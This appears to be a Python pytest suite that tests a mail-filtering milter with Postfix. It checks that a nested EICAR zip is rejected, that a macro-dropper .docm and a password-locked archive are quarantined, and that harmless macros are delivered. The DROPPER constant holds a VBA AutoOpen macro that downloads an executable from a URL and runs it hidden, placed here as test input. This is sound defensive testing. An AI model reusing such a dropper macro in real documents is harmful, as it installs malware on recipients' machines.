"""Deep inspection end to end: a real Postfix, a real mailward-milter, archives and documents built here."""

from __future__ import annotations

import pytest

from mail import EICAR, message
from unpack_support import aes_zip, ooxml, vba_project, zipped

pytestmark = pytest.mark.postfix

DROPPER = ('Sub AutoOpen()\n  URLDownloadToFile 0, "http://127.0.0.1/a.exe", "a.exe", 0, 0\n'
           '  Shell "a.exe", vbHide\nEnd Sub\n')


def test_eicar_in_zip_in_zip_is_rejected(postfix, milter):
    milter()
    nested = zipped({"docs/inner.zip": zipped({"eicar.com": EICAR})})
    mid, raw = message(attachments=(("invoice.zip", nested, "application/zip"),))
    code, text = postfix.send(raw)
    assert code == 550 and "5.7.1" in text and "eicar" not in text.lower()
    assert postfix.delivered(mid, timeout=2) is None


def test_macro_dropper_and_locked_archive_are_quarantined_not_delivered(postfix, milter):
    milter()
    docm = ooxml("docm", {"word/vbaProject.bin": vba_project(DROPPER)})
    mid_macro, raw_macro = message(attachments=(("invoice.docm", docm, "application/octet-stream"),))
    locked = aes_zip({"scan.pdf": b"%PDF-1.4\n%%EOF\n"}, "n0t-in-the-body")
    mid_locked, raw_locked = message(attachments=(("scan.zip", locked, "application/zip"),))
    for raw in (raw_macro, raw_locked):
        assert postfix.send(raw)[0] == 250          # accepted into the quarantine, not the mailbox
    assert postfix.delivered(mid_macro, timeout=3) is None
    assert postfix.delivered(mid_locked, timeout=1) is None


def test_harmless_macro_and_pdf_are_delivered(postfix, milter):
    milter()
    docm = ooxml("docm", {"word/vbaProject.bin": vba_project("Sub Tidy()\n  Selection.Font.Bold = True\nEnd Sub\n")})
    mid, raw = message(attachments=(("table.docm", docm, "application/octet-stream"),
                                    ("notes.zip", zipped({"a.txt": b"minutes"}), "application/zip")))
    assert postfix.send(raw)[0] == 250
    delivered = postfix.delivered(mid)
    assert delivered is not None and delivered["X-Mailward-Verdict"] == "accept"
